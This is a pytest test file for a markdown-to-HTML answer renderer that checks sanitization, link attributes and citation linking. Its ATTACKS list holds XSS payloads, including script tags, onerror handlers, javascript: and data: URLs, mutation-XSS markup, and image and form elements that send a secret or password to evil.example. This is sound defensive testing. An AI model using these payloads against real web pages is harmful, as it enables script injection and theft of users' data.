import re

import pytest

from playground.rendering import render_answer

HARMLESS_TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/" onerror="alert(1))',
    "![x](https://evil.example/?leak=secret)",
    '[x](https://a.example "onmouseover=alert(1) \\" onclick=alert(1)")',
    "<https://a.example/?<script>>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<style>*{display:none}</style>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<b onclick=alert(1)>x</b>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "[1](javascript:alert(1))",
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack):
    html = render_answer(attack, numbers={1}, url="/prompts/x/sources/")

    assert set(re.findall(r"</?([a-zA-Z0-9]+)", html)) <= HARMLESS_TAGS
    for tag in re.findall(r"<[a-z][^>]*>", html):
        assert not re.search(r"\son\w+\s*=\s*[^\"]|\sstyle=|\ssrc=", re.sub(r'"[^"]*"', '""', tag))
        assert not re.search(r'href="\s*(javascript|data|vbscript):', tag, re.IGNORECASE)


def test_images_are_links_and_are_not_fetched():
    html = render_answer("![a map](https://a.example/map.png)")

    assert '<a href="https://a.example/map.png"' in html
    assert "a map</a>" in html


def test_links_lead_away_without_a_trace():
    assert 'rel="noopener nofollow noreferrer"' in render_answer("[x](https://a.example)")


@pytest.mark.parametrize(
    ("text", "cited"),
    [
        ("Yes [1].", [1]),
        ("Yes [1][2].", [1, 2]),
        ("Yes [1, 3].", [1, 3]),
        ("**Yes [2]**", [2]),
        ("- a [1]\n- b [2]", [1, 2]),
        ("| a |\n|---|\n| [3] |", [3]),
        ("Not there: [9] and [1, 9].", []),
        ("`[1]` is code", []),
        ("```\n[1]\n```", []),
        ("[see [1]](https://a.example)", []),
        ("[1](https://a.example)", []),
        ("[1]: https://a.example", [1]),
        ("An index like a[0] or [x]", []),
    ],
)
def test_citations_that_exist_become_links(text, cited):
    html = render_answer(text, numbers={1, 2, 3}, url="/prompts/p/sources/")

    assert [int(number) for number in re.findall(r'data-cite="(\d+)"', html)] == cited
    for number in cited:
        assert f'href="/prompts/p/sources/{number}/"' in html


def test_markdown_is_rendered_below_the_headings_of_the_page():
    html = render_answer("# Title\n\nText with *stress*, `code`\nand a second line.\n\n1. one\n")

    assert "<h3>Title</h3>" in html
    assert "<em>stress</em>, <code>code</code><br" in html
    assert "<ol>" in html
